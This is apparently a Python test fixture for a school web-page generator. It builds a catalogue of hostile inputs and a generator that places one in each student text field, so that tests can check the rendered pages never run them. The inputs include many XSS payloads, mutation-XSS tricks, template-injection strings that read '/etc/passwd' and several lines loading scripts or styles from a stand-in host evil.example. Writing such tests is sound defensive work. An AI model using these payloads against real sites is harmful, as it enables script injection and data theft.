"""Nothing -> words that would run if some page believed them. Which shapes do attacks have?

Every one sets `hacked`, asks somebody else, or breaks out of the place it was written in.
"""

from dataclasses import dataclass, field

from tests.proof.flock import PROSE, Flock

RUN = "hacked=1"

SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt>{RUN}</sCrIpT>",
    f"<script>{RUN}//",
    f"<script\t>{RUN}</script\t>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<script src=//evil.example/x.js></script><b>{RUN}</b>",
    f"<script type=module>{RUN}</script>",
    f"</script><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f"</template><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style><script>{RUN}</script>",
    f"--><script>{RUN}</script><!--",
    f"]]><script>{RUN}</script>",
    f"<!--><script>{RUN}</script>-->",
    f"<noscript><p title='</noscript><script>{RUN}</script>'>",
)
HANDLERS = (
    f"<img src=x onerror={RUN}>",
    f"<img/src=x/onerror={RUN}//",
    f'"><img src=x onerror="{RUN}">',
    f"'><img src=x onerror='{RUN}'>",
    f"`><img src=x onerror=`{RUN}`>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    f"x onpointerenter={RUN} x",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<p style='animation:x' onanimationstart={RUN}>",
    f"<select autofocus onfocus={RUN}>",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    f"vbscript:{RUN}",
    f"<a href=javascript:{RUN}>сюда</a>",
    f'" href="javascript:{RUN}" x="',
    f"<iframe src=javascript:{RUN}></iframe>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f"<object data=javascript:{RUN}></object>",
    f"<embed src=javascript:{RUN}>",
    f"<form action=javascript:{RUN}><button autofocus>x</button></form>",
    f"<base href=//evil.example/><b>{RUN}</b>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "https://evil.example/?q=hacked",
)
DRAWN = (
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' onload='{RUN}'/>#x\"/></svg>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<math><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror={RUN}&gt;'>",
    f"<svg></p><style><a id='</style><img src=1 onerror={RUN}>'>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<table><td><caption><img src=x onerror={RUN}></caption>",
    f"<xmp><p title='</xmp><img src=x onerror={RUN}>'>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&amp;lt;script&amp;gt;{RUN}&amp;lt;/script&amp;gt;",
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
)
STYLES = (
    f"<style>@import 'javascript:{RUN}';</style>",
    "<style>body{background:url(//evil.example/hacked)}</style>",
    f"expression({RUN})",
    '"style="position:fixed;inset:0;background:url(//evil.example/hacked)',
    "</style><b style=x:hacked>",
    "red;}body{display:none}/*hacked*/",
)
TEMPLATES = (
    "{{ 7*7 }}hacked{% raw %}",
    "{% include '/etc/passwd' %}hacked",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{# hacked",
    "${hacked=1}",
    "#{hacked=1}",
    "<%= hacked=1 %>",
    "%(hacked)s {hacked} {0}",
    "\\1\\g<0> hacked",
    f"[сюда](javascript:{RUN})",
    f"![x](x){{: onerror={RUN} }}",
    f"<javascript:{RUN}>",
    "[hacked]: //evil.example 'x'",
    "![](//evil.example/hacked.png)",
    "--8<-- '/etc/passwd' hacked",
    "::: hacked",
)
OUR_OWN = (
    "page:student/uchenik-00001/family hacked",
    '" href="page:class/2026-27/4a" x="hacked',
    'asset:uchenik-00001/" data-sealed="asset:hacked',
    '" data-sealed="aaaaaaaaaaaaaaaa#hacked" data-copy="x',
    "ROOTSLOTTOOR IDSLOTDI PAYLOADSLOTDAOLYAP hacked",
    "STUPENISLOTCONTENTTOLSINEPUTS hacked",
    "__pf('hacked','x')",
    '<template id="sealed" data-id="hacked">AAAA</template>',
    '<form id="unlock"><textarea id="code">hacked</textarea></form>',
    '<img name="hacked"><a id="Stupeni"></a><a id="Stupeni" name="lock"></a>',
    '" id="menu" x="hacked',
    "hacked\u00ad\u2028 \u2029x",
    "'\"`><\\/hacked&&#;",
    "hacked" * 30,
)
UNREAD = (
    "\u202eдекаh\u202c\u2066hacked\u2069\u200bx",
    "hacked\ufeffx",
    f"<scr\0ipt>{RUN}</scr\0ipt><\0img src=x onerror={RUN}>",
    f"<img src=x \x0bonerror={RUN}><img\x0csrc=x\x0conerror={RUN}>",
    f"java\x01script:{RUN}\x7f\x9f",
    f"java\x01script:{RUN}",
    "hacked\x7fx",
    "hacked\x9fx",
)
"""Signs that nobody sees: a file with one of them is not read, so that no page can believe it."""
GIVEN = "<dialog onwheel=self.zq=1>"
GIVEN_IN = ("FullName.given", "Portfolio.called")
"""Every given name is `GIVEN`. Its words stand in no other text: another student's name would be
kept back, and with it the payload around it."""
PARAGRAPHS = (  # first, so that the texts of a small school reach them
    f"слова\n\n<script>\n{RUN}\n</script>\n\nслова",
    f"<img src=x\n\nonerror={RUN}>",
    f"- [x](javascript:{RUN})\n- <b>\n\n> hacked\n\n```html\n<script>{RUN}</script>\n```",
)
LINES = (
    *SCRIPTS, *HANDLERS, *ADDRESSES, *DRAWN, *STYLES, *TEMPLATES, *OUR_OWN,
)  # fmt: skip
PAYLOADS = (*PARAGRAPHS, *LINES)


@dataclass
class Hostile(Flock):
    """A flock that does not sing but bite: in every text one payload, each in its turn."""

    turns: dict[object, int] = field(default_factory=dict)
    """Line or Prose -> which payload is the next."""

    def say(self, place: str, form: object) -> str:
        """The next payload that fits; the place is remembered."""
        shapes = PAYLOADS if form == PROSE else LINES
        turn = self.turns[form] = self.turns.get(form, -1) + 1
        payload = GIVEN if place in GIVEN_IN else shapes[turn % len(shapes)]
        self.words[f"{place}|{payload}"] = place
        # No two texts are alike, or the last sweep would take an open one for a private one.
        mark = f" /*{len(self.words)}*/"
        # The sweep seeks the first word of a name, and «<details» stands in any page.
        first = "Я" if place.startswith("FullName.") or place.endswith(".name") else ""
        return first + "\n".join(line + mark if line else line for line in payload.split("\n"))
